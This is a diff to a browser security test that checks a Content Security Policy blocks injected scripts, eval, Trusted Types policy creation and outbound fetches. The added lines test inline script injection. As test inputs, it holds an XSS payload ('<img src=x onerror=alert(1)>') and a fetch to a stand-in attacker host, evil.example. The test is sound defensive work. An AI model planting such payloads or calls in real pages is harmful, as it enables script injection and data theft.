@@ -94,12 +94,19 @@ test('the browser blocks and reports what an injected script would do', async ({
       })
     const element = document.createElement('div')
     document.body.append(element)
+    const script = () => {
+      const inline = document.createElement('script')
+      inline.append('window.wasInjected = true')
+      document.head.append(inline)
+    }
     return {
       innerHtml: await tried(() => (element.innerHTML = '<img src=x onerror=alert(1)>')),
       // oxlint-disable-next-line typescript/no-implied-eval -- it is what must fail
       evaluation: await tried(() => later(() => new Function('return 1')())),
       policy: await tried(() => Reflect.get(window, 'trustedTypes').createPolicy('default', {})),
       fetch: await tried(() => fetch('https://evil.example/?lead')),
+      script: await tried(script),
+      wasInjected: Reflect.get(window, 'wasInjected') === true,
       style: await tried(() => element.setAttribute('style', 'color: red')),
       styled: element.style.color,
     }
@@ -111,6 +118,7 @@ test('the browser blocks and reports what an injected script would do', async ({
     evaluation: 'EvalError',
     policy: 'TypeError',
     fetch: 'TypeError',
+    wasInjected: false,
     styled: '',
   })
   const directives = reports.join('\n')
